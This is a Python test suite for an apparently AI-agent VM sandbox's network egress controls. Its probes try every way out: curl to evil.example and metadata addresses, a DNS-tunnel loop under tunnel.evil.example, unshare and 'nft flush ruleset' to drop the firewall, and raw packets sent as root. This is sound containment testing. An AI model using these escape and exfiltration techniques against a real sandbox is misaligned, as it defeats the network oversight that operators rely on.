"""Real guests with an allowlist, and real tools in them, in network namespaces in which servers of the test are the
internet. tests/host/test_egress.py has each way out alone; here it is seen that the whole holds, with the guest's own
firewall in place and without it."""

import json
import os
import re
import signal
import subprocess

from api import Api
from claude_home import write as write_claude_home
from guestshell import GuestShell, quote
from harness import (Skip, assert_eq, assert_in, assert_match, assert_nothing_left, assert_true, cmdline, read_json_lines,
                     test, wait_until)
from internet import GOOD, METADATA, OTHER, PRIVATE, Forward, Server, Web, enter, internet

ZONE = {"good.example": [GOOD], "a.wild.example": [GOOD], "evil.example": [OTHER], "inward.example": [PRIVATE],
        "meta.example": [METADATA]}
LIST = "good.example *.wild.example inward.example meta.example %s/32" % OTHER
KEY = "test-key-0123456789abcdefghij"


class World:
    """The namespaces, servers on every address, and a certificate for the good names, in the workspace."""

    def __init__(self, ctx):
        if os.getuid() != 0:
            raise Skip("needs root: network namespaces with addresses of the internet")
        enter()
        self.stack = internet(ZONE)
        self.dns = self.stack.__enter__()
        ctx.on_close(lambda: self.stack.__exit__(None, None, None))
        self.ctx, root = ctx, ctx.make_dir(os.path.join(ctx.dir, "web"))
        ctx.write(os.path.join(root, "hello"), "hello from good.example\n")
        pem = os.path.join(ctx.private, "key.pem")
        subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes", "-days",
                        "2", "-subj", "/CN=good.example", "-addext", "subjectAltName=DNS:good.example,DNS:a.wild.example",
                        "-keyout", pem, "-out", pem + ".crt"], check=True, capture_output=True)
        with open(pem + ".crt", encoding="ascii") as f:
            certificate = f.read()
        ctx.write(os.path.join(ctx.workspace, "ca.pem"), certificate)
        with open(pem, "a", encoding="ascii") as f:
            f.write(certificate)
        self.root = root
        self.https, self.http = Web(GOOD, 443, root, pem), Web(GOOD, 80, root)
        self.inner = [Server(a, 443) for a in (PRIVATE, METADATA, "127.0.0.1")]
        self.listed = Server(OTHER, 443)
        self.unlisted_port = Server(OTHER, 25)

    def env(self, allow=LIST, **more):
        return {"CCVM_EGRESS_ALLOWLIST": allow, "CCVM_EGRESS_PORTS": "443 80", "CCVM_MEMORY": "1024",
                "CCVM_EVENTS": os.path.join(self.ctx.home, "events"), **more}

    def ctl(self, *args):
        return self.ctx.run([os.path.join(self.ctx.bin, "ccvmctl"), *args])

    def session(self):
        return os.path.basename(self.ctx.session_dirs()[0])

    def log(self):
        code, out, _ = self.ctl("egress", "log", self.session(), "--json")
        assert_eq(code, 0, "ccvmctl egress log")
        return [json.loads(line) for line in out.decode().splitlines()]

    def refused(self, host, port):
        """Waits for the refusal in the log; its row."""
        def find():
            return next((r for r in self.log() if (r["verdict"], r["host"], r["port"]) == ("refused", host, port)), None)
        return wait_until(find, 20, "refusal of %s:%d in the log" % (host, port))


def fails(g, command, timeout=60):
    code, out = g.run(command, timeout)
    assert_true(code != 0, "failure of `%s` (it said %r)" % (command, out))
    return out.decode("utf-8", "replace")


def try_every_way_out(w, g):
    """Nothing of this may reach anybody. What is refused is refused fast, not after a timeout."""
    before = (w.https.accepted, w.http.accepted, [s.accepted for s in w.inner], w.listed.accepted, len(w.dns.asked))
    curl = "curl -f -sS -k -o /dev/null --max-time 5 "  # -f: the sentence on port 80 is a refusal too
    for target in ("https://%s/" % GOOD, "http://%s/" % PRIVATE, "https://8.8.8.8/dns-query?dns=AAAB", "https://10.0.2.2/",
                   "https://10.0.2.3/", "https://10.0.2.77/", "http://%s:25/" % OTHER, "https://[2001:db8::1]/",
                   "https://evil.example/", "https://wild.example/", "telnet://good.example:22",
                   "https://inward.example/", "https://meta.example/"):
        text = fails(g, "t=$(date +%%s%%N); %s %s; e=$?; echo took $((($(date +%%s%%N) - t) / 1000000)); (exit $e)" % (curl, quote(target)))
        assert_true(int(re.search(r"took (\d+)", text)[1]) < 4500, "a refusal of %s that comes at once (%s)" % (target, text))
    fails(g, curl + "--connect-to good.example:443:%s:443 https://good.example/" % GOOD)
    for where in (("8.8.8.8", 53), ("good.example", 443)):  # another resolver; QUIC
        text = fails(g, "python3 -c 'import socket; s = socket.socket(2, 2); s.settimeout(9); s.connect((\"%s\", %d)); "
                        "s.send(b\"x\" * 20); s.recv(9)'" % where)
        assert_true("timed out" not in text, "a refusal of UDP that comes at once: " + text)
    fails(g, "python3 -c 'import socket; socket.create_connection((\"127.0.0.53\", 53), 2)'")
    fails(g, "unshare -Urn curl -sS --max-time 3 https://good.example/")
    g.run("python3 - <<'END'\nimport socket\nfor i in range(30):\n    try: socket.gethostbyname('%032x.tunnel.evil.example' % i)\n    except OSError: pass\nEND")
    # The names of inward.example and meta.example were asked for, being listed; nothing else was.
    asked = {name for name, _ in w.dns.asked[before[4]:]}
    assert_true(asked <= {"inward.example", "meta.example", "good.example"}, "questions that reached the host's DNS: %s" % asked)
    after = (w.https.accepted, w.http.accepted, [s.accepted for s in w.inner], w.listed.accepted)
    assert_eq(after, before[:4], "connections that reached a server")


@test(timeout=420)
def test_a_locked_guest(ctx):
    w = World(ctx)
    g = GuestShell(ctx, env=w.env())
    curl = "curl -sS --max-time 20 --cacert %s/ca.pem " % ctx.workspace
    assert_eq(g.do(curl + "https://good.example/hello"), "hello from good.example", "HTTPS to an allowed name")
    assert_eq(g.do(curl + "http://good.example/hello"), "hello from good.example", "HTTP to an allowed name")
    assert_eq(g.do(curl + "https://a.wild.example/hello"), "hello from good.example", "a name of the wildcard")
    assert_eq(g.run("python3 -c 'import socket; socket.create_connection((\"%s\", 443), 5)'" % OTHER)[0], 0,
              "a listed address")
    subprocess.run(["git", "init", "-q", "--bare", os.path.join(w.root, "repo.git")], check=True)
    subprocess.run(["git", "--git-dir", os.path.join(w.root, "repo.git"), "update-server-info"], check=True)
    g.do("git -c http.sslCAInfo=%s/ca.pem ls-remote https://good.example/repo.git" % ctx.workspace)
    assert_true(any("repo.git" in p for p in w.https.paths), "git reached the server: %s" % w.https.paths)

    # Refused: at once, by name, with the reason where it can be read.
    text = g.do("curl -sS --max-time 5 -w '%{http_code} %{time_total}' http://evil.example/")
    assert_in("ask the user", text, "the sentence on port 80")
    assert_match(r"403 \d", text.splitlines()[-1], "status of the refusal")
    assert_eq(w.refused("evil.example", 80)["reason"], "not listed", "reason in the log")
    fails(g, "curl -sS --max-time 5 https://evil.example/")
    assert_true(w.refused("evil.example", 443)["count"] >= 1, "the name in the log")
    fails(g, "curl -sS --max-time 5 https://9.9.9.9:8443/")
    assert_in("guest's own firewall", w.refused("9.9.9.9", 8443)["reason"], "an address is refused in the guest already")
    events = [e for e in read_json_lines(os.path.join(ctx.home, "events")) if e.get("event") == "egress"]
    assert_true(any(e["host"] == "evil.example" and e["port"] == 80 for e in events), "events: %s" % events)
    total = sum(max(e["count"] for e in events if (e["host"], e["port"], e["proto"]) == one)
                for one in {(e["host"], e["port"], e["proto"]) for e in events})
    assert_eq(events[-1]["egress_refused"], total, "all that was refused, in the last event: %s" % events)
    with open(os.path.join(ctx.session_dirs()[0], "status.json"), encoding="utf-8") as f:
        status = json.load(f)
    assert_eq(status["egress"], "locked", "egress in the status")
    assert_true(status["egress_refused"] >= 2, "refusals in the status: %s" % status)

    # No root, and no way to the firewall.
    fails(g, "sudo -n true")
    fails(g, "/usr/sbin/nft flush ruleset")
    fails(g, "unshare -Ur /usr/sbin/nft flush ruleset && curl -sS --max-time 3 https://8.8.8.8/")
    try_every_way_out(w, g)
    assert_in("Reachable: api.anthropic.com, good.example", g.do("cat ~/.claude/CLAUDE.md"), "the context")

    # Decided while it runs.
    assert_eq(w.ctl("egress", "allow", w.session(), "evil.example")[0], 0, "allow")
    g.run("curl -sS -k --max-time 5 https://evil.example/")
    assert_true(w.listed.accepted > 1, "a name that is allowed now is reached")
    assert_eq(w.ctl("egress", "deny", w.session(), "good.example")[0], 0, "deny")
    fails(g, curl + "https://good.example/hello")
    g.end()
    assert_nothing_left(ctx)


@test(timeout=420)
def test_root_without_the_guest_firewall(ctx):
    """The host's wall alone: the agent is root and has flushed the guest's."""
    w = World(ctx)
    g = GuestShell(ctx, env=w.env(CCVM_AGENT_SUDO="1"))
    assert_in(b"only the host's filter remains", g.proc.err, "the warning")
    g.do("sudo -n /usr/sbin/nft flush ruleset")
    assert_eq(g.do("sudo -n /usr/sbin/nft list ruleset"), "", "rules after the flush")
    curl = "curl -sS --max-time 20 --cacert %s/ca.pem " % ctx.workspace
    assert_eq(g.do(curl + "https://good.example/hello"), "hello from good.example", "what is allowed still works")
    try_every_way_out(w, g)
    # As root also: raw packets, another address, another route.
    g.run("sudo -n ip addr add 10.0.2.77/24 dev eth0; curl -sS --interface 10.0.2.77 --max-time 2 https://good.example/")
    g.run("sudo -n ip addr del 10.0.2.77/24 dev eth0")
    g.run("""sudo -n python3 - <<'END'
import socket
for proto in (1, 47, 132):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, proto)
    s.sendto(b"x" * 64, ("%s", 0))
END""" % GOOD)
    assert_eq(w.refused("8.8.8.8", 443)["reason"], "not listed", "the host's reason for an address")
    assert_eq(g.do(curl + "https://good.example/hello"), "hello from good.example", "the network after all that")
    g.do("true")
    g.proc.send(b"exit\n")
    g.proc.close_stdin()
    assert_eq(g.proc.wait(60), 0, "exit code")
    assert_nothing_left(ctx)


@test(timeout=300)
def test_claude_and_the_api_alone(ctx):
    """The real agent in a guest that reaches one name."""
    w = World(ctx)
    api = Api(ctx, [{"match": "", "text": "ANSWERED-LOCKED"}])
    w.http.listener.close()
    w.dns.zone["api.good.example"] = ["93.184.216.36"]
    Forward("93.184.216.36", 80, ("127.0.0.1", api.port))
    write_claude_home(ctx, KEY)
    env = {**api.env(KEY), "ANTHROPIC_BASE_URL": "http://api.good.example", "CCVM_SHARE_CONFIG": "1"}
    code, out, err = ctx.ccvm("-p", "say it", env=w.env("api.good.example", **env))
    assert_eq((code, out), (0, b"ANSWERED-LOCKED\n"), "claude in a locked guest (%r)" % err)
    assert_nothing_left(ctx)


@test(timeout=300)
def test_ccvm_net_killed(ctx):
    """When it ends the network closes and does not open; the session reports it, and the next session works."""
    w = World(ctx)
    g = GuestShell(ctx, env=w.env())
    net = [p for p in ctx.processes() if os.path.basename(cmdline(p.pid)[0]) == b"ccvm-net"]
    assert_eq(len(net), 1, "ccvm-net processes")
    os.kill(net[0].pid, signal.SIGKILL)
    fails(g, "curl -sS --max-time 5 https://good.example/")
    wait_until(lambda: b"no longer has a network" in g.proc.err, 20, "the session's note")
    code, _, err = w.ctl("egress", "allow", w.session(), "evil.example")
    assert_eq(code, 1, "exit code of allow")
    assert_in(b"no longer has a network", err, "why")
    g.proc.send(b"exit\n")
    g.proc.close_stdin()
    g.proc.wait(60)
    g = GuestShell(ctx, env=w.env())
    assert_eq(g.do("curl -sS --max-time 20 http://good.example/hello"), "hello from good.example", "the next session")
    g.end()


@test(timeout=300)
def test_hold_and_ask(ctx):
    w = World(ctx)
    g = GuestShell(ctx, env=w.env())
    watch = ctx.spawn([os.path.join(ctx.bin, "ccvmctl"), "egress", "watch", w.session()])
    wait_until(lambda: fails(g, "curl -sS --max-time 1 https://first.example/") and b"first.example:443" in watch.out, 20, "a watcher")
    g.proc.send(b"curl -sS --max-time 25 -k -o /dev/null -w '%{http_code}' https://a.evil.example/ & curl -sSk --max-time 25 https://a.evil.example & sleep 1\n")
    w.dns.zone["a.evil.example"] = [GOOD]
    watch.wait_for(rb"waiting: a.evil.example:443", 20)
    # A decision for once is for those that wait; an emulated guest takes a while to get both that far.
    wait_until(lambda: g.do("ss -Htn state syn-sent | wc -l") == "2", 20, "two connections that wait")
    assert_eq(w.ctl("egress", "allow", w.session(), "a.evil.example:443", "--once")[0], 0, "allow once")
    g.do("wait")
    assert_true(len(w.https.paths) >= 2, "both that waited went through: %s" % w.https.paths)
    assert_eq(watch.out.count(b"waiting: a.evil.example"), 1, "questions")
    g.end()


@test(timeout=200)
def test_a_firewall_that_fails(ctx):
    """Fail closed: a guest that cannot set its firewall up is ended before anything of the agent's runs."""
    p = ctx.spawn([os.path.join(ctx.bin, "ccvm"), "--shell", "-c", "echo the agent ran"],
                  env={"CCVM_EGRESS_ALLOWLIST": "good.example 10.0.0.0/8", "CCVM_MEMORY": "1024"})
    path = wait_until(lambda: next((f for d in ctx.session_dirs() for f in [os.path.join(d, "seed", "egress-allow")]
                                    if os.path.exists(f)), None), 20, "the seed")
    with open(path, "w", encoding="ascii") as f:  # after the host wrote it and before the guest reads it
        f.write("not an address\n")
    assert_eq((p.wait(120), p.out), (125, b""), "exit code and stdout")
    assert_in(b"firewall", p.err, "the stage")
    assert_in(b"egress-allow: line 1 is not an address or CIDR", p.err, "the reason")
    assert_nothing_left(ctx)


def nftables_fails(ctx, warm):
    """nftables of a real kernel that cannot do it, by the way of starting the test's mark says."""
    ctx.use_hooks()
    ctx.boot_env["CCVM_TEMPLATE_DIR"] = ctx.make_dir(os.path.join(ctx.dir, "own-templates"))  # other tests count those of the shared one
    w = World(ctx)
    events = os.path.join(ctx.home, "events")
    env = w.env("good.example 10.0.0.0/8", CCVM_TEST_KERNEL_WORDS="module_blacklist=nf_tables")
    if warm:
        code, _, err = ctx.run([os.path.join(ctx.bin, "ccvmctl"), "image", "warm"], env={**ctx.boot_env, **env}, timeout=300)
        assert_eq(code, 0, "ccvmctl image warm: %s" % err)
    code, out, err = ctx.ccvm("--shell", "-c", "echo the agent ran", env=env, timeout=200)
    assert_eq((code, out), (125, b""), "exit code and stdout (%r)" % err)
    assert_match(r"firewall.*nftables", err.decode(), "the stage and the reason")
    seen = read_json_lines(events)
    states = [e for e in seen if e["event"] == "state"]
    assert_eq([e["how"] for e in states if e["state"] == "starting"], ["template" if warm else "cold"], "how it started")
    assert_true("running" not in [e["state"] for e in states], "it never ran: %s" % states)
    assert_eq((states[-1]["state"], states[-1]["code"]), ("failed", 125), "the last event: %s" % states[-1])
    assert_match(r"firewall.*nftables", json.dumps(states[-1]), "the reason in the last event")
    assert_eq((w.dns.asked, w.https.accepted, w.http.accepted, [s.accepted for s in w.inner]), ([], 0, 0, [0, 0, 0]), "what left the guest")
    assert_eq(json.loads(w.ctl("ls", "--json")[1]), [], "sessions that are left")
    assert_nothing_left(ctx)


@test(timeout=300, boot="cold")
def test_a_guest_without_nftables(ctx):
    nftables_fails(ctx, False)


@test(timeout=500, boot="template")
def test_a_saved_guest_without_nftables(ctx):
    nftables_fails(ctx, True)
